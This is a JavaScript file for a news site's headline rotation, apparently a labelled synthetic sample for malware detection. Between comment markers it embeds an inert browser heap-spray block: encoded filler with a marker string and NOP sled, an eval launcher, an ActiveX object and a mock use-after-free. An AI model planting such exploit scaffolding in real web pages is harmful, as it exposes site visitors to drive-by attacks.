/* News portal: headline rotation. */
var headlines = ["Markets steady", "Rain expected", "Local team wins"];
var current = 0;

function nextHeadline() {
    current = current + 1;
    if (current >= headlines.length)
        current = 0;
    return headlines[current];
}

var shown = nextHeadline();

/* @malicious-begin */
var shellcode = unescape("%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0c0d%u0045%u0056%u004c%u0041%u0042%u002d%u004d%u0041%u0052%u004b%u0045%u0052%u002d%u0042%u0032%u0043%u0039%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090");
var spray = unescape("%u0c0d%u0c0d");
while (spray.length < 2048) spray += spray;
var memory = new Array();
for (var k = 0; k < 16; k++) {
    memory[k] = spray.substring(0, 2048 - shellcode.length) + shellcode;
}
var hitBlock = memory[15].substring(2048 - shellcode.length - 8, 2048);
var launcher = "var hit = '" + hitBlock + "';";
eval(launcher);
var carrier = document.createElement("div");
carrier.innerHTML = "<object classid='clsid:00000000'></object>";
var freed = document.getElementById("slot");
freed = null;
/* @malicious-end */

var ticker = shown + " | more at 6";
